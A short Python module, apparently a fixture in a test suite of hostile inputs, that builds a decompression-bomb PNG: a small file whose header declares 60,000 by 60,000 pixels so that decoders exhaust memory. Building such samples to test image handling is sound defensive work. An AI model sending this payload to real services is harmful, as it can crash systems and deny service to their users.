"""A small picture that would fill the memory."""

from __future__ import annotations

import struct
import zlib

from hostile import MEGABYTE


def picture_bomb() -> bytes:
    """A PNG of 60,000 by 60,000 pixels in 60 kB."""

    def chunk(name: bytes, data: bytes) -> bytes:
        return (
            struct.pack(">I", len(data)) + name + data + struct.pack(">I", zlib.crc32(name + data))
        )

    header = struct.pack(">IIBBBBB", 60_000, 60_000, 8, 2, 0, 0, 0)
    rows = zlib.compress(bytes(40 * MEGABYTE), 1)
    return (
        b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", header) + chunk(b"IDAT", rows) + chunk(b"IEND", b"")
    )
